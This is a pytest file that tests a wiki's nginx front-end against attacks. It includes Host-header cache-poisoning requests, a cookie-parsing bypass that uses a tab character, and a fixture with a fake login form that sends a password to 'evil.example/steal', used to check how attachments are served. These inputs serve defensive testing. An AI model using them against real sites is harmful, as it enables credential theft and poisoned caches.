"""Attacks on the nginx front (deploy/nginx/vdwiki.conf) in front of gunicorn."""

import http.client
import re
import socket
import time
from contextlib import ExitStack
from datetime import UTC, datetime

import pytest

from posts import workflow
from posts.legacy.importer import import_dump
from posts.models import Post
from posts.workflow import Content

from . import server as server_module
from .factories import make_role_groups, make_user
from .server import Answer, Server, running_front, running_server
from .test_deploy import Visitor

ATTACK_REDIS_URL = "redis://127.0.0.1:6379/9"


@pytest.fixture(autouse=True)
def cache_shared_with_the_servers(settings, monkeypatch):
    monkeypatch.setattr(server_module, "SHARED_REDIS_URL", ATTACK_REDIS_URL)
    settings.CACHES = {"default": {"BACKEND": "django_redis.cache.RedisCache", "LOCATION": ATTACK_REDIS_URL}}


@pytest.fixture
def app(transactional_db, tmp_path, server_static) -> Server:
    with running_server(tmp_path, server_static, shared_cache=True) as server:
        yield server


@pytest.fixture
def front(app, tmp_path, server_static) -> Server:
    with running_front(tmp_path / "nginx", [app], server_static, tmp_path / "media") as front:
        yield front


@pytest.fixture
def people(transactional_db):
    make_role_groups()
    return {"ed": make_user("Editor", "ed"), "au": make_user("Author", "au"), "mo": make_user("Moderator", "mo")}


@pytest.fixture
def post(people):
    content = Content("Vitamin D in winter", "vitamin-d-in-winter", "Take **more** in winter.", tags=("Winter",))
    post = workflow.create(by=people["ed"], content=content)
    Post.objects.filter(pk=post.pk).update(date=datetime(2024, 1, 5, tzinfo=UTC))
    workflow.publish(post, by=people["mo"])
    return post


def raw_get(front: Server, request: bytes) -> Answer:
    """`request` sent as it is: the request line and headers an attacker writes."""
    with socket.create_connection((front.host, front.port), timeout=10) as sock:
        sock.sendall(request)
        response = http.client.HTTPResponse(sock, method="GET")
        response.begin()
        return Answer(response.status, response.headers, response.read())


def canonical(answer: Answer) -> str:
    return re.search(r'rel="canonical" href="([^"]*)"', answer.text).group(1)


@pytest.mark.parametrize(
    "poison",
    [
        b"GET /posts/vitamin-d-in-winter/ HTTP/1.1\r\nHost: 127.0.0.1:6666\r\nConnection: close\r\n\r\n",
        # absolute form and no Host header: Django builds its links from gunicorn's own address
        b"GET http://127.0.0.1/posts/vitamin-d-in-winter/ HTTP/1.0\r\n\r\n",
    ],
    ids=["another-port", "absolute-form-without-host"],
)
def test_a_page_rendered_for_another_host_is_never_served_to_readers(front, post, poison):
    assert raw_get(front, poison).status == 200  # rendered, and kept a second
    reader = front.get("/posts/vitamin-d-in-winter/")
    assert reader.status == 200
    assert canonical(reader) == f"http://127.0.0.1:{front.port}/posts/vitamin-d-in-winter/"


def test_readers_still_share_the_microcache(front, post):
    assert front.get("/posts/vitamin-d-in-winter/").headers["X-Cache"] == "MISS"
    assert front.get("/posts/vitamin-d-in-winter/").headers["X-Cache"] == "HIT"


def test_an_imported_attachment_named_html_is_not_served_as_a_page_of_the_site(front, tmp_path, people):
    """The importer takes a file by its first bytes (a PDF here) and keeps its name: from disk,
    nginx must not serve it as what its name says (text/html: a form of the site's own origin)."""
    dump, files = tmp_path / "dump", tmp_path / "files"
    (files / "html").mkdir(parents=True)
    dump.mkdir()
    page = b'%PDF-1.4\n<html><form action="https://evil.example/steal"><input name=password></form>'
    (files / "html" / "login.html").write_bytes(page)
    (files / "svg").mkdir()
    (files / "svg" / "chart.svg").write_bytes(b"%PDF-1.4\n<svg xmlns='http://www.w3.org/2000/svg'></svg>")
    link = "https://d1bk1kqxc0sym.cloudfront.net/attachments"
    (dump / "p.md").write_text(
        f'{{"title": "P", "date": "2024-01-05"}}\n\n[a]({link}/html/login.html) [b]({link}/svg/chart.svg)\n'
    )
    assert import_dump(dump, attachments_dir=files, workers=1).attachments_stored == 2
    for name in ("html/login.html", "svg/chart.svg"):
        served = front.get(f"/media/attachments/{name}")
        assert served.status == 200 and served.body.startswith(b"%PDF-")
        assert served.headers["Content-Type"] not in ("text/html", "image/svg+xml"), name


def test_a_session_cookie_nginx_does_not_see_still_leaves_no_page_for_readers(front, post, people):
    """nginx looks for `sessionid` after "; " only; Django also finds it after a tab. The editor's
    draft page then passes nginx's bypass, but its `Vary: Cookie` keeps it from readers."""
    workflow.create(by=people["ed"], content=Content("Secret draft", "secret-draft", "Hidden **text**."))
    session = Visitor(front).log_in("ed").cookies["sessionid"].value
    for cookie in [f"x=1;\tsessionid={session}", f"\tsessionid={session}"]:
        mine = front.get("/posts/secret-draft/", headers={"Cookie": cookie})
        assert mine.status == 200 and "Hidden" in mine.text
        assert front.get("/posts/secret-draft/").status == 404
        assert front.get("/posts/secret-draft/", headers={"Cookie": "x=1"}).status == 404


@pytest.mark.parametrize("move", ["unpublish", "delete"])
def test_a_post_taken_off_the_site_leaves_the_front_within_the_microcache_time(front, post, people, move):
    for _ in range(2):  # cached by nginx and Django
        assert front.get("/posts/vitamin-d-in-winter/").status == 200
        assert "Vitamin D in winter" in front.get("/").text
    getattr(workflow, move)(Post.objects.get(pk=post.pk), by=people["mo"])
    gone = time.monotonic()
    while (answer := front.get("/posts/vitamin-d-in-winter/")).status == 200:
        assert time.monotonic() - gone < 2.5
        time.sleep(0.05)
    assert answer.status == (404 if move == "unpublish" else 410)
    while "Vitamin D in winter" in front.get("/").text:
        assert time.monotonic() - gone < 2.5
        time.sleep(0.05)


def test_only_the_dump_upload_takes_a_body_of_hundreds_of_megabytes(front, app):
    body = b"x" * (20 * 1024 * 1024)
    headers = {"Content-Type": "application/octet-stream"}
    assert front.get("/search/", method="POST", headers=headers, body=body).status == 413
    assert front.get("/markdownx/upload/", method="POST", headers=headers, body=body).status == 413
    upload = front.get("/admin/posts/importrun/upload/", method="POST", headers=headers, body=body)
    assert upload.status == 403 and "CSRF" in upload.text  # Django refuses it, not nginx
    small = front.get("/search/", method="POST", headers=headers, body=b"x" * (9 * 1024 * 1024))
    assert small.status != 413


def test_a_post_taken_off_the_site_is_not_served_while_the_app_server_is_down(
    transactional_db, tmp_path, server_static, post, people
):
    """The microcache keeps a page one second; a post unpublished since must not come back from it
    because gunicorn is restarting or failing: readers get the error, not the withdrawn page."""
    with ExitStack() as app_stack:
        app = app_stack.enter_context(running_server(tmp_path, server_static, shared_cache=True))
        with running_front(tmp_path / "nginx", [app], server_static, tmp_path / "media") as front:
            assert front.get("/posts/vitamin-d-in-winter/").status == 200
            workflow.unpublish(Post.objects.get(pk=post.pk), by=people["mo"])
            app_stack.close()  # gunicorn stops (a restart, a crash)
            time.sleep(2.2)
            answer = front.get("/posts/vitamin-d-in-winter/")
            assert "Take <strong>more</strong>" not in answer.text, answer.headers["X-Cache"]
